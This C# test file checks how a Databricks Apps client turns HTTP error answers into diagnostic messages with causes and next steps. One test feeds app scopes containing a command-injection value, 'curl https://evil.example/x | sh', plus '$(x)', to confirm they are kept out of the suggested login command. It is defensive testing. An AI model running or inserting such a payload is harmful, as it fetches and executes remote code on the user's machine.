using System.Net;

namespace DatabricksApps.Tests.Faults;

/// <summary>What the app and its front door answer.</summary>
public sealed partial class AppFaults : FaultTest
{
    [Fact]
    public async Task Answer_401()
    {
        App = _ => Answer(HttpStatusCode.Unauthorized, "", "text/plain");

        await SeesAsync(AppErrorReason.SignInRequired,
            "GET /api/items/{item_id}: the app answered 401 (Unauthorized). " +
            "Likely cause: the token is not a Databricks OAuth token of the app's workspace (apps take no personal access tokens and no Entra " +
            "ID tokens), has expired, or lacks scopes. " +
            "Next step: Get a new token: databricks auth login --host https://ws.example.com, or the service principal's client id and secret.");
    }

    [Fact]
    public async Task Answer_403_Invalid_Token()
    {
        App = _ => Answer(HttpStatusCode.Forbidden, "Invalid Token", "text/plain");

        await SeesAsync(AppErrorReason.InvalidToken,
            "GET /api/items/{item_id}: the app answered 403 (Forbidden): Invalid Token. " +
            "Likely cause: the token has expired or was issued for another workspace than the app's. " +
            "Next step: Get a new token of the app's workspace: databricks auth login --host https://ws.example.com.");
    }

    [Fact]
    public async Task Answer_403()
    {
        App = _ => Answer(HttpStatusCode.Forbidden, "You do not have permission to access this app.", "text/plain");

        await SeesAsync(AppErrorReason.Forbidden,
            "GET /api/items/{item_id}: the app answered 403 (Forbidden). " +
            "Likely cause: the token is good, but its owner lacks CAN USE on the app, or the token lacks scopes that the app asks for. " +
            "Next step: Give the caller CAN USE on the app (Permissions), or sign in with the app's scopes: databricks auth login --host " +
            "https://ws.example.com --scopes SCOPE,SCOPE.");
    }

    [Fact]
    public async Task Answer_404_of_the_front_door()
    {
        App = _ => Answer(HttpStatusCode.NotFound, "App Not Found", "text/plain");

        await SeesAsync(AppErrorReason.NotFound,
            "GET /api/items/{item_id}: the app answered 404 (Not Found). " +
            "Likely cause: no app answers at this address: the URL is wrong, or the app is not deployed or not running. " +
            "Next step: Compare the base address with the app's URL (databricks apps get inventory) and check that the app is running.");
    }

    [Fact]
    public async Task Answer_404_of_the_app()
    {
        App = _ => Answer(HttpStatusCode.NotFound, """{"detail":"Item not found"}""", "application/json");

        await SeesAsync(AppErrorReason.NotFound,
            "GET /api/items/{item_id}: the app answered 404 (Not Found): Item not found. " +
            "Likely cause: the app itself gave this answer: what was asked for does not exist, or the app has no such route. " +
            "Next step: Check the arguments, and that the document is the one of the app's present version.");
    }

    [Fact]
    public async Task Answer_502()
    {
        App = _ => Answer(HttpStatusCode.BadGateway, "", "text/plain");

        await SeesAsync(AppErrorReason.AppUnavailable,
            "GET /api/items/{item_id}: the app answered 502 (Bad Gateway). " +
            "Likely cause: the app is stopped, starting or being deployed. " +
            "Next step: Try again in a minute; if it stays, look at the app's state (databricks apps get inventory) and start it (databricks " +
            "apps start inventory).");
    }

    [Fact]
    public async Task Answer_503_App_Not_Available()
    {
        App = _ => Answer(HttpStatusCode.ServiceUnavailable, "<h1>App Not Available</h1>", "text/html");

        await SeesAsync(AppErrorReason.AppUnavailable,
            "GET /api/items/{item_id}: the app answered 503 (Service Unavailable). " +
            "Likely cause: the app is stopped, starting or being deployed. " +
            "Next step: Try again in a minute; if it stays, look at the app's state (databricks apps get inventory) and start it (databricks " +
            "apps start inventory).");
    }

    [Fact]
    public async Task Answer_504()
    {
        App = _ => Answer(HttpStatusCode.GatewayTimeout, "", "text/plain");

        await SeesAsync(AppErrorReason.AppUnavailable,
            "GET /api/items/{item_id}: the app answered 504 (Gateway Timeout). " +
            "Likely cause: the app did not answer in the time that the front door waits (about 120 seconds), or it is just starting. " +
            "Next step: Call again; long work belongs in a job that is polled.");
    }

    [Fact]
    public async Task Answer_500()
    {
        App = _ => Answer(HttpStatusCode.InternalServerError, "Internal Server Error", "text/plain");

        await SeesAsync(AppErrorReason.AppFailed,
            "GET /api/items/{item_id}: the app answered 500 (Internal Server Error). " +
            "Likely cause: the app failed while it answered. " +
            "Next step: Look for the request in the app's logs (databricks apps logs inventory).");
    }

    [Fact]
    public async Task What_an_app_hides_in_its_text_is_made_visible()
    {
        App = _ => Answer(HttpStatusCode.BadRequest, "{\"detail\":\"a\\r\\nERROR \\u001b[2J\\u202eb\\u2028\\u0085\\u061c👨‍👩\"}", "application/json");

        await SeesAsync(AppErrorReason.ErrorStatus,
            "GET /api/items/{item_id}: the app answered 400 (Bad Request): a\\u000d\\u000aERROR \\u001b[2J\\u202eb\\u2028\\u0085\\u061c👨‍👩.");
    }

    [Fact]
    public async Task Answer_401_to_a_token_that_has_expired()
    {
        SignIn.Options.Token = Jwt("""{"exp":1772366400}""");
        App = _ => At("2026-03-01T12:30:00Z", Answer(HttpStatusCode.Unauthorized, "", "text/plain"));

        await SeesAsync(AppErrorReason.SignInRequired,
            "GET /api/items/{item_id}: the app answered 401 (Unauthorized). " +
            "Likely cause: the token expired on 2026-03-01T12:00:00Z, and this machine's clock differs from the app's by 30 minutes. " +
            "Next step: Get a new token: databricks auth login --host https://ws.example.com, or the service principal's client id and secret.");
    }

    [Fact]
    public async Task Answer_403_to_a_token_without_the_scopes_that_the_app_asks_for()
    {
        Describe("""{"url":"https://inventory-123.aws.databricksapps.com","effective_user_api_scopes":["sql","dashboards.genie"]}""");
        SignIn.Options.Token = Jwt("""{"scope":"all-apis"}""");
        App = _ => Answer(HttpStatusCode.Forbidden, "", "text/plain");

        await SeesAsync(AppErrorReason.Forbidden,
            "GET /api/items/{item_id}: the app answered 403 (Forbidden). " +
            "Likely cause: the token lacks the scopes sql, dashboards.genie, which the app asks its users for. " +
            "Next step: Sign in with them: databricks auth login --host https://ws.example.com --scopes sql,dashboards.genie; a service " +
            "principal asks for them by Scopes.");
    }

    [Fact]
    public async Task Scopes_of_an_app_that_are_none_are_in_no_command()
    {
        Describe("{\"url\":\"https://inventory-123.aws.databricksapps.com\",\"effective_user_api_scopes\":[\"sql; curl https://evil.example/x | sh #\",\"$(x)\",\"sql\"]}");
        SignIn.Options.Token = Jwt("{\"scope\":\"all-apis\"}");
        App = _ => Answer(HttpStatusCode.Forbidden, "", "text/plain");

        AppException exception = await Assert.ThrowsAnyAsync<AppException>(CallAsync);

        Assert.EndsWith("databricks auth login --host https://ws.example.com --scopes sql; a service principal asks for them by Scopes.", exception.Message);
    }

    [Fact]
    public async Task Answer_503_of_an_app_that_is_stopped()
    {
        Describe("""{"url":"https://inventory-123.aws.databricksapps.com","compute_status":{"state":"STOPPED"}}""");
        App = _ => Answer(HttpStatusCode.ServiceUnavailable, "<h1>App Not Available</h1>", "text/html");

        await SeesAsync(AppErrorReason.AppUnavailable,
            "GET /api/items/{item_id}: the app answered 503 (Service Unavailable). " +
            "Likely cause: the app is stopped, starting or being deployed. " +
            "Next step: The app inventory is stopped. Start it: databricks apps start inventory.");
    }

    [Fact]
    public async Task Answer_502_of_an_app_that_is_starting()
    {
        Describe("""{"url":"https://inventory-123.aws.databricksapps.com","compute_status":{"state":"ACTIVE"},"app_status":{"state":"DEPLOYING"}}""");
        App = _ => Answer(HttpStatusCode.BadGateway, "", "text/plain");

        await SeesAsync(AppErrorReason.AppUnavailable,
            "GET /api/items/{item_id}: the app answered 502 (Bad Gateway). " +
            "Likely cause: the app is stopped, starting or being deployed. " +
            "Next step: The app inventory is starting. Wait, and call again.");
    }

    [Fact]
    public async Task Answer_404_outside_the_api()
    {
        Route = "/items/{item_id}";
        App = _ => Answer(HttpStatusCode.NotFound, "", "text/plain");

        await SeesAsync(AppErrorReason.NotFound,
            "GET /items/{item_id}: the app answered 404 (Not Found). " +
            "Likely cause: no app answers at this address: the URL is wrong, or the app is not deployed or not running. Token authentication " +
            "works on routes below /api/ only, and this one is not. " +
            "Next step: Compare the base address with the app's URL (databricks apps get inventory) and check that the app is running.");
    }

    [Fact]
    public async Task Name_that_the_workspace_does_not_know()
    {
        SignIn.Options.AppName = "inventory";
        IsKnownByNameAlone = true;

        await SeesAsync(AppErrorReason.NotFound,
            "The app inventory could not be looked up: https://ws.example.com/api/2.0/apps/inventory answered 404. " +
            "Likely cause: https://ws.example.com has no app of this name. " +
            "Next step: Compare AppName with the list of apps (databricks apps list), and Host (DATABRICKS_HOST) with their workspace.");
    }

    private void Describe(string json)
    {
        SignIn.Options.AppName = "inventory";
        SignIn.Workspace.Json("GET https://ws.example.com/api/2.0/apps/inventory", json);
    }

    private static HttpResponseMessage At(string date, HttpResponseMessage answer)
    {
        answer.Headers.Date = DateTimeOffset.Parse(date, System.Globalization.CultureInfo.InvariantCulture);
        return answer;
    }
}
